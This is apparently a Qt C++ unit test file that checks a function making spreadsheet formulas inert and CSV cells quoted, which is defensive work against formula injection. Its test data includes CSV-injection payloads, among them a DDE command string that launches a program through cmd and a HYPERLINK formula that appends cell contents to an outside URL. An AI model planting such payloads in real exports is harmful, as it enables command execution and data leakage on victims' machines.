// SPDX-FileCopyrightText: The Gavel authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "core/tablecell.h"
#include "support/testmain.h"

#include <QTest>

using namespace gavel;
using namespace Qt::StringLiterals;

class TestTableCell : public QObject
{
    Q_OBJECT

private slots:
    void formulasAreMadeInert_data();
    void formulasAreMadeInert();
    void otherTextsStay_data();
    void otherTextsStay();
    void cellsOfCsv_data();
    void cellsOfCsv();
};

void TestTableCell::formulasAreMadeInert_data()
{
    QTest::addColumn<QString>("text");
    for (const QString &text : { u"=1+1"_s,     u"=HYPERLINK(\"http://x/\"&A1)"_s,
                                 u"+1+1"_s,     u"-1+cmd|' /C calc'!A0"_s,
                                 u"@SUM(A1)"_s, u"\tx"_s,
                                 u"\rx"_s,      u"\n=1"_s,
                                 u"＝1"_s,      u"＋1"_s,
                                 u"－1"_s,      u"＠x"_s,
                                 u"  =1"_s,     u"\ufeff=1"_s,
                                 u"\u200b=1"_s, u"\u00a0@x"_s,
                                 u"-"_s,        u"- item"_s,
                                 u"--1"_s,      u"-1e"_s,
                                 u"-1-1"_s,     u"+49 1"_s,
                                 u"'=1"_s,      u"''=1"_s })
        QTest::addRow("%s", qPrintable(text)) << text;
}

void TestTableCell::formulasAreMadeInert()
{
    QFETCH(QString, text);
    QCOMPARE(inertCell(text), u'\'' + text);
    QCOMPARE(givenCell(inertCell(text)), text);
}

void TestTableCell::otherTextsStay_data()
{
    QTest::addColumn<QString>("text");
    for (const QString &text : { QString(), u"-1"_s, u"+1"_s, u"-0.5"_s, u"-0,5"_s, u"+2.5e-3"_s, u"-1E5"_s, u"-4 %"_s, u" -1"_s, u"4"_s, u"a=1"_s,
                                 u"'a"_s, u"−1"_s, u" "_s, u"見る"_s })
        QTest::addRow("%s", qPrintable(text)) << text;
}

void TestTableCell::otherTextsStay()
{
    QFETCH(QString, text);
    QCOMPARE(inertCell(text), text);
    QCOMPARE(givenCell(text), text);
}

void TestTableCell::cellsOfCsv_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QByteArray>("cell");
    QTest::addRow("plain") << "a b" << QByteArray("a b");
    QTest::addRow("empty") << "" << QByteArray();
    QTest::addRow("comma") << "a,b" << QByteArray("\"a,b\"");
    QTest::addRow("semicolon") << "a;=1+1" << QByteArray("\"a;=1+1\"");
    QTest::addRow("tab") << "a\tb" << QByteArray("\"a\tb\"");
    QTest::addRow("quote") << "a\"b" << QByteArray("\"a\"\"b\"");
    QTest::addRow("line end") << "a\nb" << QByteArray("\"a\nb\"");
    QTest::addRow("carriage return") << "a\rb" << QByteArray("\"a\rb\"");
    QTest::addRow("edge") << " a" << QByteArray("\" a\"");
    QTest::addRow("number") << "-1" << QByteArray("-1");
    QTest::addRow("formula") << "=1+1" << QByteArray("\"'=1+1\"");
    QTest::addRow("formula with a quote") << "=HYPERLINK(\"x\",1)" << QByteArray("\"'=HYPERLINK(\"\"x\"\",1)\"");
}

void TestTableCell::cellsOfCsv()
{
    QFETCH(QString, text);
    QTEST(csvCell(text), "cell");
}

GAVEL_TEST(TestTableCell)
#include "tst_tablecell.moc"
